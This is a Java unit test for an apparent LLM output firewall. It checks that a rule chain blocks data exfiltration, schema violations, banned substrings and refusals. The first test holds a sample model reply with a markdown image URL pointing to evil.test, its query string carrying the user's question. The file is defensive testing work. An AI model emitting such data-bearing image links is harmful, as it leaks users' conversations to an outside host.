package io.trustgate.firewall;

import static org.assertj.core.api.Assertions.assertThat;

import io.trustgate.api.Action;
import io.trustgate.api.Category;
import io.trustgate.api.ScanContext;
import io.trustgate.api.ScanText.Stage;
import io.trustgate.api.Verdict;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.Test;

/** The new scanners in a chain built from rule options, as a configuration would build it. */
class OutputRulesChainTest {
    static FirewallChain output() {
        return Scanners.chain(List.of(
                rule("exfiltration", Action.BLOCK, Map.of("allowed-domains", List.of("example.com"))),
                rule("json-schema", Action.BLOCK, Map.of()),
                rule("banned-substrings", Action.REDACT, Map.of("substrings", List.of("Project Falcon"))),
                rule("refusal", Action.FLAG, Map.of())));
    }

    static FirewallChain.Rule rule(String name, Action action, Map<String, Object> options) {
        return new FirewallChain.Rule(Scanners.create(name, new ScannerOptions(options)), action, 0.5);
    }

    static final ScanContext SCHEMA = new ScanContext(
            Optional.empty(), List.of(), Optional.of("{\"type\":\"object\",\"required\":[\"answer\"]}"));

    @Test
    void blocksAnImageThatCarriesData() {
        Verdict v = output().scan(
                        "Done. ![x](https://evil.test/a.png?d=the+user+asked+about+the+merger)",
                        Stage.OUTPUT,
                        Set.of());
        assertThat(v)
                .isInstanceOfSatisfying(
                        Verdict.Block.class,
                        b -> assertThat(b.cause().category()).isEqualTo(Category.DATA_EXFILTRATION));
    }

    @Test
    void blocksAnAnswerThatBreaksTheRequestedSchema() {
        Verdict v = output().scan("{\"reply\":\"hi\"}", Stage.OUTPUT, Set.of(), SCHEMA);
        assertThat(v)
                .isInstanceOfSatisfying(
                        Verdict.Block.class, b -> assertThat(b.cause().type()).isEqualTo("SCHEMA_VIOLATION"));
        assertThat(output().scan("{\"answer\":\"hi\"}", Stage.OUTPUT, Set.of(), SCHEMA))
                .isInstanceOf(Verdict.Allow.class);
    }

    @Test
    void redactsABannedSubstringAndFlagsARefusal() {
        Verdict v = output().scan(
                        "I'm sorry, but I can't discuss Project Falcon. See ![logo](https://img.example.com/l.png).",
                        Stage.OUTPUT,
                        Set.of());
        assertThat(v).isInstanceOfSatisfying(Verdict.Redact.class, r -> {
            assertThat(r.text()).doesNotContain("Project Falcon");
            assertThat(r.findings())
                    .extracting(f -> f.category())
                    .containsExactlyInAnyOrder(Category.BANNED_CONTENT, Category.REFUSAL);
        });
    }
}
